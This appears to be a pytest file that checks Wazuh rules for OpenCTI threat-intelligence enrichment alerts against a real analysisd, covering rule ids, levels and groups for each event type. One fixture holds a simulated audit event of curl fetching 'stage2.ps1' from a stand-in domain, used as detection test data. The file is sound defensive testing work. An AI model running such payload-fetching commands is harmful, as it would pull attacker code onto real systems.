"""Every rule the collection ships, proven by the real engine: the events the programs really write,
built by their own code, go through a real wazuh-analysisd (Wazuh 4.14.7 and 4.8.2, stock ruleset plus
our files) - through its logtest socket and, as the enrichment sends them, through its queue socket -
and the decoder, rule id, level and groups of the result are checked.

Events: the OpenCTI enrichment (files/integrations/opencti_enrich) runs in this process against the
OpenCTI emulator and its datagrams are recorded (tests/support/opencti.QueueRecorder); the partial
match and an event type the rules do not know are the program's event with its type changed.
"""
import json

import pytest

from tests.emulators.opencti import OpenCTIEmulator
from tests.support.opencti import DOMAIN, IP_B, IP_C, OPENCTI_TOKEN, OpenctiRun, QueueRecorder, make_alert

# rule id, level, groups: the table in the header of files/rules/opencti_rules.xml
BASE = (110200, 10, ["threat_intel", "opencti"])
EXPECTED = {
    "indicator_pattern_match": (110202, 12, ["threat_intel", "opencti", "opencti_alert"]),
    "observable_with_indicator": (110203, 12, ["threat_intel", "opencti", "opencti_alert"]),
    "observable_with_related_indicator": (110204, 10, ["threat_intel", "opencti", "opencti_alert"]),
    "indicator_partial_pattern_match": (110205, 10, ["threat_intel", "opencti", "opencti_alert"]),
    "error": (110201, 5, ["threat_intel", "opencti", "opencti_error"]),
    "x_socstack_unknown_type": BASE,  # a type the rules do not know still alerts, on the parent rule
}
AGENT = {"id": "004", "name": "app01", "ip": "192.168.20.14"}
MANAGER = {"id": "000", "name": "wazuh-manager"}


def program_messages(agent):
    """The datagrams (location, payload text) the enrichment sends for an audit command alert with a
    URL, a domain and an address OpenCTI knows (three event types), and for an OpenCTI failure."""
    emulator = OpenCTIEmulator(token=OPENCTI_TOKEN).start()
    queue = QueueRecorder()
    try:
        emulator.load_sample_data()
        run = OpenctiRun(emulator, queue)
        execve = {"a0": "curl", "a1": f"http://{DOMAIN}/stage2.ps1", "a2": IP_B}
        alert = make_alert(["audit_command"], {"audit": {"execve": execve}}, agent=agent)
        assert run.run(alert) == 0, run.log()
        emulator.fault = "http_500"  # an address not looked up yet (not cached): the failure is an event
        failing = make_alert(["audit_command"], {"audit": {"execve": {"a0": "ping", "a1": IP_C}}}, agent=agent)
        assert run.run(failing) == 0, run.log()
        return queue.datagrams()
    finally:
        queue.close()
        emulator.stop()


def with_type(payload, event_type):
    event = json.loads(payload)
    event["opencti"]["event_type"] = event_type
    return json.dumps(event)


def typed_events(agent):
    """{event_type: (location, payload)}: every type the rules tell apart, as the program writes them."""
    found = {}
    for location, payload in program_messages(agent):
        found.setdefault(json.loads(payload)["opencti"]["event_type"], (location, payload))
    assert set(found) == set(EXPECTED) - {"indicator_partial_pattern_match", "x_socstack_unknown_type"}
    location, payload = found["indicator_pattern_match"]
    found["indicator_partial_pattern_match"] = (location, with_type(payload, "indicator_partial_pattern_match"))
    found["x_socstack_unknown_type"] = (location, with_type(payload, "x_socstack_unknown_type"))
    return found


@pytest.fixture(scope="module")
def events():
    """The program's events of a manager alert and of an agent alert, by event type."""
    return {"manager": typed_events(MANAGER), "agent": typed_events(AGENT)}


@pytest.mark.parametrize("origin", ["manager", "agent"])
@pytest.mark.parametrize("event_type", sorted(EXPECTED))
def test_each_opencti_event_decodes_and_fires_its_rule(running_manager, events, origin, event_type):
    agent = MANAGER if origin == "manager" else AGENT
    location, payload = events[origin][event_type]
    assert location == ("opencti" if agent is MANAGER else "[004] (app01) 192.168.20.14->opencti")
    output = running_manager.logtest(payload, location)
    assert output["decoder"]["name"] == "json"
    rule_id, level, groups = EXPECTED[event_type]
    assert (output["rule"]["id"], output["rule"]["level"], output["rule"]["groups"]) == (str(rule_id), level, groups)
    assert output["data"]["integration"] == "opencti"
    assert output["agent"]["id"] == agent["id"]
    if agent is AGENT:
        assert (output["agent"]["name"], output["agent"]["ip"]) == (AGENT["name"], AGENT["ip"])


def test_the_queue_socket_turns_the_programs_datagrams_into_alerts(running_manager, events):
    """The bytes the program sends for a manager alert, on the real queue socket: one alert per event.
    (An agent-prefixed location makes analysisd ask wazuh-db for the agent's labels, which this core
    lacks - about 15 s per event; logtest above covers that location.)"""
    marker = f"queue-{running_manager.version}"
    for location, payload in events["manager"].values():
        event = json.loads(payload)
        event["opencti"]["source"] = {**event["opencti"].get("source", {}), "alert_id": marker}
        running_manager.send_queue(f"1:{location}:{json.dumps(event)}".encode())
    alerts = running_manager.wait_for_alerts(
        lambda a: a.get("data", {}).get("opencti", {}).get("source", {}).get("alert_id") == marker,
        len(EXPECTED), f"{len(EXPECTED)} OpenCTI alerts of {marker} in alerts.json")
    fired = sorted((a["data"]["opencti"]["event_type"], int(a["rule"]["id"]), a["rule"]["level"]) for a in alerts)
    assert fired == sorted((t, rule_id, level) for t, (rule_id, level, _groups) in EXPECTED.items())
    assert {a["agent"]["id"] for a in alerts} == {"000"}


def test_the_iris_test_rule_fires_on_its_text(running_manager):
    output = running_manager.logtest("Dec  7 20:00:00 web01 root: socstack wazuh_iris test event from logger",
                                     "/var/log/syslog")
    assert output["rule"]["id"] == "100100" and output["rule"]["level"] == 10
    assert output["rule"]["groups"] == ["local", "socstack_wazuh_iris_test"]


def suricata_eve_line(sample):
    """An eve.json line with the decoded fields of the sample Suricata alert (rule 86601 reads JSON)."""
    return json.dumps({"timestamp": "2025-06-03T09:14:22.518000+0000", **sample["data"]})


@pytest.mark.parametrize(("sample", "rule_id"), [("suricata_alert_86601.json", "86601"),
                                                 ("audit_command_80792.json", "80792")])
def test_the_main_stock_rules_of_ids_and_audit_command_are_level_3(
        running_manager, shared_reference, sample, rule_id):
    """Their level in the real ruleset is why wazuh_opencti sends them in a second block at level 3
    (docs/opencti.md, wazuh_opencti_main_rules): at the default level 5 integratord would skip them."""
    alert = json.loads((shared_reference / "sample-alerts" / sample).read_text())
    event, log_format = ((alert["full_log"], "audit") if "full_log" in alert else (suricata_eve_line(alert), "json"))
    output = running_manager.logtest(event, alert["location"], log_format)
    assert (output["rule"]["id"], output["rule"]["level"]) == (rule_id, 3)
    assert set(alert["rule"]["groups"]) <= set(output["rule"]["groups"])
